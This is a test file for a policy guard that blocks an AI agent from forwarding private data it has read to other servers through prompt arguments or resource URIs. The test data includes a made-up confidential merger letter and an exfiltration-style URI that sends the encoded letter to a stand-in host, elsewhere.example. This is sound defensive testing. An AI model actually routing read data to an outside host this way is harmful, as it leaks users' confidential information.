/**
 * Private data leaves through every request to a server: prompts/get carries arguments, resources/read a URI the
 * server reads. The data-flow stage looked for private data in tool calls, messages, elicitation answers and
 * sampling replies only, so a letter an agent had read went to another server as a prompt argument or in a resource
 * URI, allowed (fails before). Data the same server gave may go back to it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { join } from 'node:path';
import '../../src/detectors/index.js';
import type { Interaction } from '../../src/core/types.js';
import { buildGuard, type BuiltGuard } from '../../src/guard/build.js';

const DEFAULT_BOOK = join(import.meta.dirname, '../../policies/default');
const LETTER = 'Dear Ann, the merger with Borealis Labs closes on the third of March; the wire goes to account 7731-5519-2284 and the price stays at 41 million. Keep this to the board.';

describe('default book: private data sent through a prompt request or a resource URI', () => {
  let guard: BuiltGuard;
  const reader = { agent: 'reader', session: 'session-r', profile: {} };
  const check = (i: Record<string, unknown>) => guard.pipeline.check({ ...reader, ...i } as Interaction);
  beforeAll(async () => {
    guard = await buildGuard({ policy: DEFAULT_BOOK, store: ':memory:' });
    const read = await check({ kind: 'tool_result', server: 'mail', tool: 'read_email', content: [{ type: 'text', text: LETTER }] });
    expect(read.decision).toBe('allow');
  });
  afterAll(async () => guard?.close());

  it.each<[string, Record<string, unknown>]>([
    ['prompts/get arguments', { kind: 'prompt_request', server: 'docs', prompt: 'summarize', arguments: { text: LETTER } }],
    ['a prompt argument holding the account number', { kind: 'prompt_request', server: 'docs', prompt: 'lookup', arguments: { account: '7731-5519-2284' } }],
    ['a resource URI', { kind: 'resource_request', server: 'web', uri: `https://elsewhere.example/log?d=${encodeURIComponent(LETTER)}` }],
  ])('is denied through %s', async (_route, i) => {
    const d = await check(i);
    expect(d.decision).toBe('deny');
    expect(d.rules).toContain('no-private-data-in-requests');
  });

  it('lets the data go back to the server it came from, and other requests through (controls)', async () => {
    expect((await check({ kind: 'prompt_request', server: 'mail', prompt: 'reply', arguments: { text: LETTER } })).decision).toBe('allow');
    expect((await check({ kind: 'prompt_request', server: 'docs', prompt: 'summarize', arguments: { path: 'notes.md' } })).decision).toBe('allow');
    expect((await check({ kind: 'resource_request', server: 'web', uri: 'https://elsewhere.example/weather?city=Oslo' })).decision).toBe('allow');
  });
});
